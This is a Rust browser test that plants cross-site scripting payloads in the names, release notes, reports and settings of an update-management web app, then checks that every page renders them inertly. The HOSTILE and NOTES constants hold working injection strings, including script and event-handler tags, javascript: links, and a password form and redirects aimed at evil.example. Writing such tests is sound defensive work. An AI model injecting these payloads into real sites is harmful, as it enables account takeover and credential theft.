//! Script in everything that others have a word in, in a real browser: none of it runs, and none is even there to be stopped.

use jiff::Timestamp;
use obnova_engine::api::{
    Outcome, Problem, ReleaseNotes, StepState, StepStatus, TableChange, UpdateSummary,
};
use obnova_testkit::browser::{Browser, BrowserOptions, By, Key};
use semver::Version;

use crate::centre::{Centre, EMAIL, PASSWORD, place};
use crate::engine::{found, offer};

/// Runs in a text, in an attribute of either quotes, in a style, in Markdown and in a template of the browser's.
const HOSTILE: &str = "\"'`><img src=x onerror=\"window.ran=1\"><script>window.ran=2</script><svg/onload=window.ran=3>{{7*7}}";

/// The same for Markdown, which may have HTML in it.
const NOTES: &str = "# Notes <script>window.ran=4</script>\n\n[go](javascript:window.ran=5) \
    <a href=\"data:text/html,<script>alert(1)</script>\" onmouseover=\"window.ran=6\">here</a>\n\n\
    <iframe src=\"https://evil.example\"></iframe><style>body{display:none}</style><form action=\"https://evil.example\">\
    <input name=\"password\"></form><base href=\"https://evil.example\"><meta http-equiv=\"refresh\" content=\"0;url=https://evil.example\">\n\n\
    <div id=\"confirm\" class=\"button\" hx-post=\"/sign-out\" hx-trigger=\"load\" data-opens=\"confirm\">x</div>\n\n![x](https://evil.example/x.png)";

#[tokio::test]
async fn script_in_names_notes_and_reports_runs_nowhere() {
    let centre = Centre::start().await;
    let anna = centre.signed_in().await;
    fill(&centre);
    anna.post("/groups", &[("name", &HOSTILE.replace(',', ""))])
        .await;
    let eve = [
        ("name", HOSTILE),
        ("email", "eve@example.com"),
        ("language", "en"),
        ("active", "yes"),
    ];
    let added = anna.post("/users", &eve).await;
    assert_eq!(place(&added), "/users?done=user-added");
    let sent = anna
        .post("/notifications/test", &[("to", "eve@example.com")])
        .await;
    let mail = place(&sent).split('?').next().unwrap().to_owned();
    let browser = signed_in(&centre).await;
    for path in [
        "/",
        "/updates",
        "/updates/install?version=1.1.0",
        "/updates/rehearsal/1.1.0",
        "/updates/report/1",
        "/history",
        "/history/1",
        "/history/1/revert",
        "/users",
        "/users/2",
        "/users/2/remove",
        "/groups",
        "/notifications",
        &mail,
        &format!("{mail}/html"),
        "/settings",
        "/audit",
        "/nowhere/%3Cscript%3Ewindow.ran=7%3C%2Fscript%3E",
        "/users?search=%22%3E%3Cscript%3Ewindow.ran=8%3C%2Fscript%3E",
        "/updates?done=%3Cscript%3E&count=%3Cscript%3Ewindow.ran=9%3C/script%3E",
    ] {
        browser.goto(centre.url(path)).await.unwrap();
        if path == "/updates" {
            browser.wait_for_text("is available").await.unwrap();
        }
        // Parts are fetched, and streams opened, after the page.
        tokio::time::sleep(std::time::Duration::from_millis(300)).await;
        let found = browser
            .execute(FOREIGN, Vec::new())
            .await
            .unwrap()
            .json()
            .clone();
        assert_eq!(found, serde_json::json!([]), "{path}");
        let address = browser.current_url().await.unwrap();
        assert!(
            address.as_str().starts_with(&centre.base),
            "{path} leads to {address}"
        );
        // A policy that had to stop something says so here; a page that is not there is told as well.
        let said = browser.console().await.unwrap();
        let told = said.iter().filter(|line| !line.contains("404"));
        assert_eq!(told.count(), 0, "{path}: {said:?}");
    }
    browser.close().await.unwrap();
}

/// What would not be there without script in the data, and whether any has run.
const FOREIGN: &str = "
    const bad = [...document.querySelectorAll(
        'script:not([src]), img[onerror], [onload], [onmouseover], iframe:not([src^=\"/\"]), base, object, embed,' +
        'main [hx-post=\"/sign-out\"], form[action^=\"http\"], a[href^=\"javascript:\"], a[href^=\"data:\"], meta[content*=\"evil\"]')];
    const found = bad.map(it => it.outerHTML);
    if (window.ran) found.push('ran ' + window.ran);
    if (document.body.innerText.includes('49}') || /\\b49$/.test(document.title)) found.push('a template');
    return found;";

fn fill(centre: &Centre) {
    crate::rehearsals::can_go_back(centre);
    let problem = Problem::new("migration-failed")
        .arg("version", HOSTILE)
        .arg("status", HOSTILE)
        .detail(HOSTILE);
    let summary = UpdateSummary {
        update: 1,
        from: Version::new(1, 0, 0),
        to: Version::new(1, 1, 0),
        then: vec![],
        started: Timestamp::now(),
        finished: Some(Timestamp::now()),
        outcome: Outcome::RolledBack,
        blackout_ms: None,
        actor: HOSTILE.to_owned(),
        problem: Some(problem.clone()),
        steps: vec![StepState {
            step: HOSTILE.to_owned(),
            status: StepStatus::Undone,
            failed: false,
            took_ms: None,
        }],
        kind: Default::default(),
        forecast: None,
    };
    let mut offer = offer();
    offer.obstacles = vec![problem];
    offer.may_insist = true;
    offer.notes = vec![ReleaseNotes {
        version: Version::new(1, 1, 0),
        date: HOSTILE.to_owned(),
        text: [("en".to_owned(), NOTES.to_owned())].into(),
    }];
    centre.engine().change(|facts| {
        facts.state.name = HOSTILE.to_owned();
        facts.state.product = HOSTILE.to_owned();
        facts.state.public_address = Some("javascript:window.ran=10".to_owned());
        facts.state.support_email = Some(HOSTILE.to_owned());
        facts.state.last_update = Some(summary.clone());
        facts.finds = found(Some(offer.clone()));
        facts.state.check = Some(found(Some(offer)));
        facts.history = vec![summary];
        let plan = facts.revert_plan.as_mut().unwrap();
        plan.obstacles = vec![Problem::new(HOSTILE).detail(HOSTILE)];
        plan.written = Some(vec![TableChange {
            table: HOSTILE.to_owned(),
            inserted: Some(1),
            updated: None,
            deleted: None,
        }]);
    });
}

async fn signed_in(centre: &Centre) -> Browser {
    let options = BrowserOptions {
        language: "en".to_owned(),
        ..BrowserOptions::default()
    };
    let browser = Browser::start(options).await.unwrap();
    browser.goto(centre.url("/sign-in")).await.unwrap();
    let email = browser.find(By::Id("email")).await.unwrap();
    email.send_keys(EMAIL).await.unwrap();
    let password = browser.find(By::Id("password")).await.unwrap();
    password.send_keys(PASSWORD).await.unwrap();
    password.send_keys(Key::Enter + "").await.unwrap();
    browser.wait_for_text("1.1.0").await.unwrap();
    browser
}
